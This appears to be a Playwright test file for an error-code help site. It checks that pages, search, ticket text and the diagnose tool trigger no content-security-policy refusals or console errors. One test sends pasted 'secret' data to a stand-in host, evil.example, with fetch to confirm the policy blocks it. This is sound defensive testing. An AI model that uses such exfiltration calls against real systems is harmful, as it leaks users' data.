import type { Page } from '@playwright/test';
import { pageKinds } from '../e2e/support/pageKinds';
import { expect, test as hostTest, served } from './support/hosts';

/** A test that fails where the browser refuses something because of a policy, or reports an error. */
const test = hostTest.extend<{ refusals: string[] }>({
  refusals: [
    async ({ page }, use) => {
      const refusals: string[] = [];
      page.on('console', (message) => {
        const isExpected = message.text().includes('status of 404') && message.location().url === page.url();
        if (['error', 'warning'].includes(message.type()) && !isExpected) refusals.push(message.text());
      });
      page.on('pageerror', (error) => refusals.push(error.message));
      await page.exposeFunction('tellRefusal', (text: string) => refusals.push(text));
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective, sample }) => {
          Reflect.get(window, 'tellRefusal')(`${effectiveDirective} refuses ${blockedURI} ${sample}`);
        });
      });
      await use(refusals);
      expect(refusals).toEqual([]);
    },
    { auto: true },
  ],
});

/** Shows intent, and waits until the application runs. */
async function wake(page: Page): Promise<void> {
  await page.mouse.move(2, 200);
  await page.keyboard.press('Shift');
  await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true');
}

for (const site of served) {
  test.describe(`the policies of ${site.build} at ${site.name}`, () => {
    test.use({ served: site, serviceWorkers: 'allow' });

    for (const [kind, path] of Object.entries(pageKinds))
      test(`refuse nothing of a page of the kind ${kind}`, async ({ host, page }) => {
        await page.goto(host.http + host.base + path);
        await wake(page);
        await page.waitForLoadState('networkidle');
      });

    test('refuse nothing of the page for what is missing, nor of one that leads on', async ({ host, page }) => {
      await page.goto(`${host.http}${host.base}/no-such-page/`);
      await wake(page);
      await page.goto(`${host.http}${host.base}/sportradar/429/throttled/?from=ticket`);
      await expect(page).toHaveURL(`${host.http}${host.base}/sportradar/429/?from=ticket#throttled`);
      await wake(page);
    });

    test('refuse nothing of search, colour mode, menu, ticket kit, comparison and diagnosis', async ({ host, page }) => {
      await page.goto(`${host.http}${host.base}/429/`);
      await wake(page);
      const field = page.getByRole('navigation', { name: 'Main' }).getByRole('combobox');
      await field.fill('sportradar throttled');
      await expect(page.getByRole('option').first()).toContainText('Throttled');
      await field.press('Enter');
      await expect(page).toHaveURL(`${host.http}${host.base}/sportradar/429/#throttled`);
      await page.getByRole('button', { name: 'Copy for ticket: Throttled', exact: true }).click();
      await page.getByRole('region', { name: 'Text for a ticket: Throttled' }).getByRole('radio', { name: 'Customer reply' }).check();
      await page.getByRole('button', { name: /Switch between dark and light mode/ }).click();
      await page.setViewportSize({ width: 390, height: 844 });
      await page.getByRole('button', { name: 'Toggle navigation bar' }).click();
      await page.keyboard.press('Escape');
      await page.setViewportSize({ width: 1280, height: 900 });
      await page.goto(`${host.http}${host.base}/compare/?code=429`);
      await page.getByLabel('Situation', { exact: true }).selectOption('rate-limited');
      await page.goto(`${host.http}${host.base}/diagnose/`);
      await page.getByLabel('Paste a response, log line or ticket').fill('HTTP/1.1 404 Not Found\n\n{"message":"not_found"}');
      await expect(page.getByRole('list', { name: 'Matches' }).getByRole('link').first()).toHaveAttribute('href', `${host.base}/infoplug/404/#not_found`);
    });

    test('keep what is pasted: no address outside of the site is reached', async ({ host, page, refusals }) => {
      await page.goto(`${host.http}${host.base}/diagnose/`);
      const outcome = await page.evaluate(() =>
        fetch('https://evil.example/?paste=secret').then(
          () => 'sent',
          () => 'refused',
        ),
      );
      expect(outcome).toBe('refused');
      await expect.poll(() => refusals.some((text) => text.includes('connect-src'))).toBe(true);
      refusals.length = 0;
    });
  });
}
